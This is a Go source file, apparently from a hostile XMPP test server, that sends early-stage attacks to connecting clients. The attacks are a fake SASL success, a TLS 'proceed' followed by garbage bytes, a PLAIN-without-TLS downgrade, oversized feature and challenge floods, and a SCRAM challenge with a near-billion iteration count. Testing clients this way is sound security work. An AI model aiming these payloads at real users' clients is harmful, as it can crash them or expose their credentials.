// SPDX-License-Identifier: GPL-3.0-or-later

package main

import (
	"fmt"
	"strings"
)

// earlyDomain has names below it, PHASE-ATTACK-ANYTHING each: the attack is
// done before anybody is let in. Phases: clear (in place of the features, before TLS), tls
// (in their place, behind TLS) and auth (in place of the answer to <auth).
const earlyDomain = ".early.test"

// earlyAttacks are those that make no sense later; any other one is of attacks.
var earlyAttacks = map[string]func(s *session) string{
	"success": func(*session) string { return "<success xmlns='" + nsSASL + "'/>" },
	"proceed": func(*session) string {
		return "<proceed xmlns='" + nsTLS + "'/>" + strings.Repeat("\x16\x03\x01\xff", 500)
	},
	"plain": func(*session) string {
		return "<stream:features><mechanisms xmlns='" + nsSASL + "'><mechanism>PLAIN</mechanism></mechanisms></stream:features>"
	},
	"features": func(*session) string {
		return "<stream:features><starttls xmlns='" + nsTLS + "'/><mechanisms xmlns='" + nsSASL + "'>" +
			strings.Repeat("<mechanism>SCRAM-SHA-1</mechanism>", 20000) + "</mechanisms></stream:features>"
	},
	"twice": func(*session) string { return strings.Repeat("<stream:features/>", 2000) },
	"bind":  func(*session) string { return "<stream:features><bind xmlns='" + nsBind + "'/></stream:features>" },
	"challenge": func(*session) string {
		return "<challenge xmlns='" + nsSASL + "'>" + strings.Repeat("cj1h", 200000) + "</challenge>"
	},
	"nonsense": func(*session) string { return "<challenge xmlns='" + nsSASL + "'>%%%</challenge>" },
	"iterate": func(*session) string {
		return "<challenge xmlns='" + nsSASL + "'>cj14LHM9QUFBQSxpPTk5OTk5OTk5OQ==</challenge>" // r=x,s=AAAA,i=999999999
	},
	"failures": func(*session) string {
		return strings.Repeat("<failure xmlns='"+nsSASL+"'><not-authorized/></failure>", 2000)
	},
}

// early says which attack is due in a phase, if one is.
func (s *session) early(phase string) (attack string, due bool) {
	name, is := strings.CutSuffix(s.seen.To, earlyDomain)
	if !is {
		return "", false
	}
	attack, due = strings.CutPrefix(name, phase+"-")
	attack, _, _ = strings.Cut(attack, "-")
	return attack, due
}

// phase is the one of a stream's beginning.
func (s *session) phase() string {
	if s.seen.Secure {
		return "tls"
	}
	return "clear"
}

// legacy is a stream of before XMPP 1.0, whose login is an iq (XEP-0078).
func (s *session) legacy() bool {
	attack, due := s.early(s.phase())
	return due && attack == "legacy"
}

// attackEarly carries it out; the client's answers are read on, for a while.
func (s *session) attackEarly(name string) error {
	s.log("attack", func(e *event) { e.Name = name })
	go s.closeSoon()
	if s.legacy() {
		return nil // the beginning of the stream was it
	}
	if own, ok := earlyAttacks[name]; ok {
		return s.say(own(s))
	}
	do, ok := attacks[name]
	if !ok {
		return fmt.Errorf("no such attack: %q", name)
	}
	do(&attacker{mu: &s.writing, out: s.conn, from: hostileBuddy, to: "victim@" + s.seen.To})
	return nil
}
